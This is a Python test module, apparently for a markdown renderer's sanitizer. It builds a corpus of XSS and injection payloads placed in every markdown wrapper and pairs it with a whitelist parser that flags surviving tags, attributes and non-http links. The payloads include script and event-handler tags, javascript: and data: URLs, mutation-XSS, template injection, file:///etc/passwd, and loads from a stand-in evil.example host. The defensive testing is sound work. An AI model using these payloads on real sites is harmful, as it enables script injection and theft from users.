"""Texts as an attacker would write them, and the check that nothing of them is alive after rendering.

Every payload is put into every place markdown and HTML offer it; `TEXTS` is the product.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

SCRIPTS = (
    "<script>hit()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>hit()</script\n>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<img src=x onerror=hit()>",
    '<img src="x" onerror="hit()"',
    "<img/src=x/onerror=hit()>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>go</button></form>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<a href=javascript:hit()>x</a>",
    '<a href="https://ok.example" onclick="hit()">x</a>',
    "<!--><script>hit()</script-->",
    "<![CDATA[<script>hit()</script>]]>",
    "<?php hit() ?>",
    "</article></main><script>hit()</script>",
    "</title><script>hit()</script>",
    '"><script>hit()</script>',
    "'><img src=x onerror=hit()>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>",
    "{{ 7 * 7 }}{% include 'x' %}",
)

ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "java\tscript:hit()",
    "java&#10;script:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "&#x6A;avascript:hit()",
    "javascript:https://ok.example/%0Ahit()",
    "vbscript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KCk+",
    "file:///etc/passwd",
    "//evil.example/x",
    "/api/v1/agents/me",
    'https://ok.example/"onmouseover="hit()',
    "https://ok.example/'onmouseover='hit()",
    "https://ok.example/><script>hit()</script>",
    "https://ok.example/\u202egpj.exe",
    "https://user:pass@evil.example/",
)

AROUND_ANYTHING = (
    "{}",
    "**{}**",
    "# {}",
    "> {}",
    "- {}",
    "`{}",
    "|a|\n|-|\n|{}|",
    "~~{}~~ https://ok.example/{}",
    "a\u200b{}\u202e",
)

AROUND_ADDRESSES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "![x](<{}> 'title')",
    "[![x]({})]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "![x]\n\n[x]: <{}>",
    '[x](https://ok.example "{}")',
)

TEXTS = (
    *(around.replace("{}", script) for script in SCRIPTS for around in AROUND_ANYTHING),
    *(around.replace("{}", address) for address in ADDRESSES for around in AROUND_ADDRESSES),
)

_BLOCKS = {"blockquote", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "ul"}
_TABLES = {"table", "tbody", "td", "th", "thead", "tr"}
_WORDS = {"a", "br", "code", "em", "s", "span", "strong"}
_TAGS = _BLOCKS | _TABLES | _WORDS
_ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "p": {"class"}, "span": {"class"}, "table": {"tabindex"}}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _ATTRIBUTES.get(tag, ()):
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and urlsplit(value or "").scheme not in ("http", "https"):
                self.faults.append(f"href={value}")
            if name == "class" and value not in ("plain", "u"):
                self.faults.append(f"class={value}")
        if tag == "a" and dict(attrs).get("rel") != "nofollow noopener noreferrer ugc":
            self.faults.append("a link without rel")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def faults(html: str) -> list[str]:
    """Name whatever in rendered text is more than the harmless tags."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults
